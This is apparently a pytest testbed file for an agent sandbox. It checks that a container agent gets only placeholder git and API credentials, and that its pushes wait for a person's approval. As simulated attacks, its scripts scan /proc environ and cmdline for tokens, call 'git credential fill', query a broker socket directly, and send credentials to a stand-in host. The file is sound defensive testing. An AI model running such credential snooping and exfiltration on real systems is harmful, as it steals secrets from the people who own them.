"""Issue 30 item 4, from inside a real container agent (the container kind,
real podman): credentials injected at the egress as for a namespace agent.
The servers, names, tokens and test CA are test_egress_credentials.py's
(`servers`); the config is its own with `kind = "container"`.

The image is built in the bed from the host's own programs (no registry):
static busybox for the shell and tools, the host's git (with its
git-remote-https, libcurl-gnutls) and curl (OpenSSL) with every library
`ldd` names, and perl-base, which the attacker below uses to speak to the
broker's socket itself. busybox's wget cannot do https through a CONNECT
proxy; these can.

What a container agent holds is the placeholder only: its clone, fetch and
push of git.test work (the push after a person saw the ref update), while
the token is in no variable, file or process it can read, `git credential
fill` gives the placeholder, the broker's `git_fetch` asked directly (perl
on the bound broker socket) gives the placeholder, and a placeholder sent
to another host reaches it as the placeholder. On the code before this
change the clone failed (no injection, no CA in the container's trust) and
the broker's `git_fetch` gave the container the token (seen failing)."""

from __future__ import annotations

import base64
import json
import subprocess
import time
from collections.abc import Iterator

import pytest
from test_container import build_image
from test_egress_credentials import (
    API_TOKEN,
    CONFIG,
    GH_TOKEN,
    GIT_TOKEN,
    git_log,
    log,
    servers,
)
from test_gate_bed import lev
from testbed import Testbed

pytestmark = pytest.mark.testbed

IMAGE = "localhost/leviath-test-git:1"

BUILD_IMAGE = rf"""set -e
command -v podman >/dev/null || {{ echo "no podman in the bed" >&2; exit 3; }}
[ -x /bin/busybox ] || {{ echo "no static busybox (busybox-static) in the bed" >&2; exit 3; }}
podman image exists {IMAGE} && exit 0
d=$(mktemp -d /var/tmp/leviath-gitimage.XXXXXX); chmod 755 "$d"
mkdir -p "$d/usr/bin" "$d/usr/lib64" "$d/usr/lib/x86_64-linux-gnu" "$d/etc" "$d/tmp" \
    "$d/proc" "$d/sys" "$d/dev" "$d/root" "$d/run"
chmod 1777 "$d/tmp"
ln -s usr/bin "$d/bin"; ln -s usr/lib "$d/lib"; ln -s usr/lib64 "$d/lib64"
tar -C / -cf - usr/bin/git usr/lib/git-core usr/share/git-core usr/bin/curl usr/bin/perl \
    usr/lib/x86_64-linux-gnu/perl-base | tar -C "$d" -xf -
cp /bin/busybox "$d/usr/bin/busybox"
for a in $(/bin/busybox --list); do [ -e "$d/usr/bin/$a" ] || ln -s busybox "$d/usr/bin/$a"; done
for f in $(ldd /usr/bin/git /usr/lib/git-core/git-remote-http /usr/bin/curl /usr/bin/perl \
           | awk '$3 ~ /^\// {{print $3}}' | sort -u); do
    cp -L "$f" "$d/usr/lib/x86_64-linux-gnu/"
done
cp -L /lib64/ld-linux-x86-64.so.2 "$d/usr/lib64/"
echo 'root:x:0:0:root:/root:/bin/sh' > "$d/etc/passwd"; echo 'root:x:0:' > "$d/etc/group"
tar -C "$d" -cf "$d.tar" .
podman import --change 'ENV PATH=/usr/bin:/bin' "$d.tar" {IMAGE} >/dev/null
rm -rf "$d" "$d.tar"
"""

# grep patterns that match the tokens without holding them: the script is
# in its shell's own /proc/PID/cmdline, which the snoop reads too.
TOKENS = " ".join(f"-e '{t[:-1]}[{t[-1]}]'" for t in (GIT_TOKEN, API_TOKEN, GH_TOKEN))

# What an agent can do with the broker's socket without `lev`: one request
# line, one reply line (JSON lines, leviathd/broker/server.py).
BROKER_GIT_FETCH = r"""LC_ALL=C perl -MIO::Socket::UNIX -e '
  my $s = IO::Socket::UNIX->new(Peer => "/run/leviath/broker.sock") or die "connect: $!";
  print $s "{\"op\":\"call\",\"tool\":\"git_fetch\",\"id\":1,\"args\":{\"url\":\"https://git.test/repo.git\"}}\n";
  print scalar <$s>;'"""


@pytest.fixture(scope="module")
def cbed(testbed: Testbed) -> Iterator[Testbed]:
    bed = testbed
    build_image(bed, BUILD_IMAGE)
    bed.run(["mkdir", "-p", "ecw"], user="alice")
    config = CONFIG.replace('kind = "namespace"', f'kind = "container"\nimage = "{IMAGE}"')
    with servers(bed, config):
        yield bed


def run(bed: Testbed, script: str) -> tuple[int, str, str]:
    home = bed.users["alice"].home
    r = bed.run(["lev", "run", "--workdir", f"{home}/ecw", "--", "sh", "-c", script],
                user="alice", check=False, timeout=180)
    return r.returncode, r.stdout, r.stderr


# Every place the container's user can read that might hold a secret, while
# a clone runs and after; then what git and the broker hand out.
SNOOP = f"""
cd /tmp
git clone -q https://git.test/repo.git snoop &
clone=$!
hits=""
while kill -0 $clone 2>/dev/null; do
  for f in /proc/[0-9]*/environ /proc/[0-9]*/cmdline; do
    grep -q -a {TOKENS} "$f" 2>/dev/null && hits="$hits $f"
  done
done
wait $clone; echo "clone=$?"
cat snoop/README
echo "env=$(env | grep -c {TOKENS})"
echo "files=$(grep -r -l -a {TOKENS} "$HOME" /tmp /run/leviath "$OLDPWD" 2>/dev/null | head)"
echo "hits:$hits"
printf 'protocol=https\\nhost=git.test\\n\\n' | git credential fill
{BROKER_GIT_FETCH}
"""


def test_a_container_agents_clone_works_and_it_holds_only_the_placeholder(cbed: Testbed
                                                                        ) -> None:
    rc, out, err = run(cbed, SNOOP)
    assert GIT_TOKEN not in out + err and API_TOKEN not in out + err, (out, err)
    assert rc == 0, (out, err)
    lines = out.splitlines()
    assert lines[:5] == ["clone=0", "hello", "env=0", "files=", "hits:"], (out, err)
    assert "password=leviath-placeholder-" in out, out  # git credential fill
    reply = json.loads(lines[-1])  # the broker's git_fetch, asked directly
    assert reply["ok"] and reply["result"]["password"].startswith("leviath-placeholder-"), reply
    # The clone's requests carried the real token at git.test only.
    seen = [e for e in log(cbed) if e["host"] == "git.test"]
    assert any(GIT_TOKEN in base64_auth(str(e["auth"])) for e in seen), seen


def base64_auth(auth: str) -> str:
    scheme, _, rest = auth.partition(" ")
    return base64.b64decode(rest).decode() if scheme == "Basic" else auth


def test_a_placeholder_sent_to_another_host_is_worthless(cbed: Testbed) -> None:
    cbed.run("rm -f /srv/inj/log.jsonl")
    rc, out, err = run(cbed, (
        'curl -fsS https://api.test/user -H "Authorization: Bearer $GH_TOKEN"; '
        'curl -fsS https://other.test/x -H "Authorization: token $GH_TOKEN"; '
        "ph=$(printf 'protocol=https\\nhost=git.test\\n\\n' | git credential fill "
        "| sed -n 's/^password=//p'); "
        'curl -fsS -u "x-access-token:$ph" https://other.test/git'))
    assert rc == 0, (out, err)
    assert out == "hello from api.test\nhello from other.test\nhello from other.test\n", out
    seen = log(cbed)
    api = [e for e in seen if e["host"] == "api.test"]
    other = {str(e["path"]): str(e["auth"]) for e in seen if e["host"] == "other.test"}
    assert api and all(e["auth"] == f"Bearer {API_TOKEN}" for e in api), api
    assert other["/x"].startswith("token leviath-placeholder-"), other
    assert base64_auth(other["/git"]).startswith("x-access-token:leviath-placeholder-"), other
    assert not any(t in base64_auth(a) for a in other.values()
                   for t in (GIT_TOKEN, API_TOKEN, GH_TOKEN)), other


def test_a_container_agents_push_waits_for_a_person_who_sees_the_ref(cbed: Testbed) -> None:
    home = cbed.users["alice"].home
    script = ("cd /tmp && git clone -q https://git.test/repo.git p && cd p && "
              "echo container >> README && git -c user.name=c -c user.email=c@c commit -q "
              "-am fromcontainer && git push -q origin main && echo pushed")
    proc = subprocess.Popen(
        cbed.command(["lev", "run", "--workdir", f"{home}/ecw", "--", "sh", "-c", script],
                     user="alice"),
        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        row = pushes_pending(cbed)
        assert row["tool"] == "git_push" and "git.test/repo.git" in row["target"], row
        assert "refs/heads/main:" in row.get("detail", ""), row
        assert "fromcontainer" not in git_log(cbed)
        lev(cbed, "alice", "approve", row["id"], "--once")
        out, err = proc.communicate(timeout=120)
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()
    assert proc.returncode == 0 and out.strip() == "pushed", (out, err)
    assert "fromcontainer" in git_log(cbed)


def pushes_pending(bed: Testbed) -> dict:
    """The first approval request of alice's for a push (the attached run's
    agent id is not known here), waited for up to 60 s."""
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline:
        for row in json.loads(lev(bed, "alice", "approvals", "--json").stdout):
            if row["tool"] == "git_push":
                return dict(row)
        time.sleep(0.2)
    raise AssertionError("no push approval request appeared")


def test_lev_inspect_says_a_container_agents_credentials_are_injected(cbed: Testbed) -> None:
    home = cbed.users["alice"].home
    agent_id = lev(cbed, "alice", "run", "--detach", "--workdir", f"{home}/ecw", "--",
                   "sleep", "600").stdout.strip()
    try:
        out = lev(cbed, "alice", "inspect", agent_id).stdout
    finally:
        lev(cbed, "alice", "stop", agent_id, check=False)
    assert "credential gitsrv (kind git): injected at the proxy toward git.test" in out, out
    assert "credential api (kind http): injected at the proxy toward api.test" in out, out
    assert "not injected" not in out and "not offered" not in out, out
